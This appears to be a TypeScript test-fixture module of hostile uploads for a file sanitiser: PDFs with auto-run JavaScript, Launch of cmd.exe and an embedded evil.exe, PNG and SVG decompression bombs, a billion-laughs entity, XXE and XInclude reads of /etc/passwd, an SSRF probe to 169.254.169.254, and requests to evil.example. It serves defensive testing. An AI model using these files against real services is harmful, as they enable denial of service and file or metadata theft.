// Files as attackers send them: bombs, loops, disguises, and PDFs that act. None may stop the server, none may reach a reader as it came.
import { crc32, deflateSync } from 'node:zlib';

const latin = (text: string) => Buffer.from(text, 'latin1');
const mega = 1024 * 1024;
/** The most a form may carry is more than a file may be. */
const nearlyLargest = 4.9 * mega;

/** `size` bytes of the same line. */
const repeated = (line: string, size = nearlyLargest) => line.repeat(Math.floor(size / line.length));

/** A whole PDF whose only page has these entries; further objects follow. Readers rebuild the table of objects, which is left out. */
export function pdfOf({
  catalog = '',
  page = '',
  objects = '',
}: { catalog?: string; page?: string; objects?: string } = {}): Buffer {
  return latin(`%PDF-1.7
1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj
2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj
3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${page} >>\nendobj
${objects}
trailer\n<< /Root 1 0 R /Size 20 >>\n%%EOF\n`);
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const packed = (type: string) => {
  const content = deflateSync(latin(`7 0 ${script}`)).toString('latin1');
  return `6 0 obj\n<< ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj`;
};

/** PDFs that a reader might run: the name of each says where the action hides. */
export const activePdfs: Readonly<Record<string, Buffer>> = {
  'a script': pdfOf({ catalog: `/OpenAction ${script}` }),
  'a script between comments that look like a stream': pdfOf({
    objects: `%stream\n7 0 obj\n${script}\nendobj\n%endstream`,
    catalog: '/OpenAction 7 0 R',
  }),
  'a script in a table of objects whose type is written in codes': pdfOf({
    objects: packed('/Type/Obj#53tm'),
    catalog: '/OpenAction 7 0 R',
  }),
  'a script in a table of objects whose type is cut by a comment': pdfOf({
    objects: packed('/Type%x\n/ObjStm'),
    catalog: '/OpenAction 7 0 R',
  }),
  'a script whose name is written in codes': pdfOf({
    catalog: '/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>',
  }),
  'a jump to a network path': pdfOf({
    catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>',
  }),
  'a link': pdfOf({
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example) >> >>]',
  }),
  'a program to start': pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'an embedded file': pdfOf({
    catalog:
      '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>] >> >>',
    objects: '7 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream\nendobj',
  }),
  'a form that sends itself': pdfOf({
    catalog:
      '/AcroForm << /Fields [] /XFA (evil) >> /AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>',
  }),
};

/** Nothing of these may be left in what is stored. */
export const activeNames = /JavaScript|JS|OpenAction|GoToR|URI|Launch|Embedded|XFA|SubmitForm|Annots|evil/;

/** PDFs that are not worth an answer: each kept, or could keep, a reader busy. */
export const stubbornPdfs: Readonly<Record<string, Buffer>> = {
  'a megabyte of "stream"': latin(`%PDF-1.7\n${repeated('stream\n', mega)}%%EOF\n`),
  'five megabytes of "stream"': latin(`%PDF-1.7\n${repeated('stream\n')}%%EOF\n`),
  'tables of objects that never end': latin(`%PDF-1.7\n${repeated('/Type /ObjStm ')}\n%%EOF\n`),
  'spaces after the end': latin(`%PDF-1.7\n%%EOF${repeated(' ')}x`),
  'opening brackets': latin(`%PDF-1.7\n1 0 obj\n${repeated('[<<')}\n%%EOF\n`),
  'pages that are their own children': latin(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
  ),
  'ten million pages': latin(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 10000000 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
  ),
  'nothing but its first bytes': latin('%PDF-1.7 hello'),
};

/** A drawing of a few kilobytes that asks for billions of strokes: only a deadline ends it. */
export function endlessPdf(): Buffer {
  const strokes = deflateSync(
    latin('0 0 m 300 200 l 0 200 l 300 0 l h B* '.repeat(4_000) + '/F Do '.repeat(64)),
  );
  const form = (number: number, next: number, more = '') => {
    const content = latin(`${more}${`/F Do `.repeat(64)}`).toString('latin1');
    return `${number} 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /F ${next} 0 R >> >> /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`;
  };
  const forms = Array.from({ length: 5 }, (_, index) => form(10 + index, 11 + index)).join('');
  const last = `15 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 300 200] /Filter /FlateDecode /Length ${strokes.length} >>\nstream\n${strokes.toString('latin1')}\nendstream\nendobj\n`;
  const content = '/F Do';
  return pdfOf({
    page: '/Contents 9 0 R /Resources << /XObject << /F 10 0 R >> >>',
    objects: `9 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n${forms}${last}`,
  });
}

/** A PNG of black pixels, one bit each: small as a file, a pixel count no phone has. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), content]);
    const size = Buffer.alloc(4);
    size.writeUInt32BE(content.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([size, named, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([
    latin('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** What is no picture, or none that may be unpacked. */
export const hostilePictures: Readonly<Record<string, Buffer>> = {
  'a bomb of 900 megapixels': pngBomb(30_000, 30_000),
  'a picture 200,000 pixels wide': pngBomb(200_000, 400),
  'HTML behind the first bytes of a JPEG': Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    latin('<html><script>alert(1)</script></html>'),
  ]),
  'a JPEG of nothing but markers': Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff]),
    Buffer.alloc(nearlyLargest, 0xff),
  ]),
  'a WebP that promises more than it holds': Buffer.concat([
    latin('RIFF\xff\xff\xff\x7fWEBPVP8X'),
    Buffer.alloc(mega, 0xff),
  ]),
  'an AVIF of noise': Buffer.concat([
    latin('\x00\x00\x00\x20ftypavif\x00\x00\x00\x00avifmif1miaf'),
    Buffer.alloc(mega, 0x41),
  ]),
  'a drawing with a script': latin(
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
  ),
};

const drawing = (inner: string, { before = '', more = '' } = {}) =>
  latin(
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30"${more}>${inner}</svg>`,
  );
/** Each name ten times the one before. */
const laughs = Array.from(
  { length: 10 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('');
/** Each group ten times the one before: ten billion rectangles. */
const groups = Array.from(
  { length: 10 },
  (_, index) => `<g id="g${index + 1}">${`<use href="#g${index}"/>`.repeat(10)}</g>`,
).join('');
const rectangle = '<rect width="90" height="30" fill="#0b5d47"/>';
/** The same by what a shape is cut to, which nothing of its text gives away. */
const clips = Array.from(
  { length: 10 },
  (_, index) =>
    `<clipPath id="c${index + 1}">${`<rect width="90" height="30" clip-path="url(#c${index})"/>`.repeat(10)}</clipPath>`,
).join('');

/** Logos that do more than draw, or never end. None may be stored. */
export const hostileDrawings: Readonly<Record<string, Buffer>> = {
  'a script': drawing(`${rectangle}<script>alert(1)</script>`),
  'a script under another name of its language': drawing(
    `<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`,
  ),
  'a handler': drawing(rectangle, { more: ' onload="alert(1)"' }),
  'a link that runs': drawing(`<a href="javascript:alert(1)">${rectangle}</a>`),
  'a page within': drawing(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>',
  ),
  'a picture from elsewhere': drawing('<image href="http://169.254.169.254/latest" width="9" height="9"/>'),
  'a picture from elsewhere, in codes': drawing(
    '<image xlink:href="&#104;ttp://evil.example/x.png" width="9" height="9"/>',
  ),
  'a file of ours': drawing('<image href="file:///etc/passwd" width="9" height="9"/>'),
  'a file of ours, included': drawing(
    '<text><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/></text>',
  ),
  'another drawing within': drawing(
    '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
  ),
  'colours from elsewhere': drawing(`<style>@import "https://evil.example/x.css";</style>${rectangle}`),
  'a filter from elsewhere': drawing('<rect width="9" height="9" filter="url(https://evil.example/x#f)"/>'),
  'a style sheet of its own': drawing(rectangle, {
    before: '<?xml-stylesheet href="https://evil.example/x.css"?>',
  }),
  'a billion laughs': drawing('<text y="20">&l10;</text>', {
    before: `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>`,
  }),
  'an entity that reads a file': drawing('<text y="20">&x;</text>', {
    before: '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  }),
  'ten billion rectangles by reference': drawing(
    `<defs><g id="g0">${rectangle}</g>${groups}</defs><use href="#g10"/>`,
  ),
  'ten billion clips within each other': drawing(
    `<defs><clipPath id="c0">${rectangle}</clipPath>${clips}</defs><rect width="90" height="30" clip-path="url(#c10)"/>`,
  ),
  'a canvas a million pixels wide': latin(
    `<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000">${rectangle}</svg>`,
  ),
  'a canvas of no width': latin(
    `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="9">${rectangle}</svg>`,
  ),
  'two megabytes of lines': drawing(`<path d="${'M0 0L9 9'.repeat(250_000)}"/>`),
  'letters of another alphabet': Buffer.from(drawing(rectangle).toString('latin1'), 'utf16le'),
  'an encoding that hides what it says': drawing(rectangle, {
    before: '<?xml version="1.0" encoding="UTF-7"?>',
  }),
  'a page of HTML with a drawing': latin(
    `<!doctype html><html><svg width="9" height="9">${rectangle}</svg></html>`,
  ),
  'half a drawing': latin('<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30"><rect'),
};

/** What drawing programs write. */
export const plainDrawing = drawing(
  '<defs><linearGradient id="g"><stop stop-color="#0b5d47"/><stop offset="1" stop-color="#0b5d47"/></linearGradient></defs>' +
    '<rect width="45" height="30" fill="url(#g)"/>',
  {
    before:
      '<?xml version="1.0" encoding="utf-8"?>\n<!-- drawn -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n',
  },
);
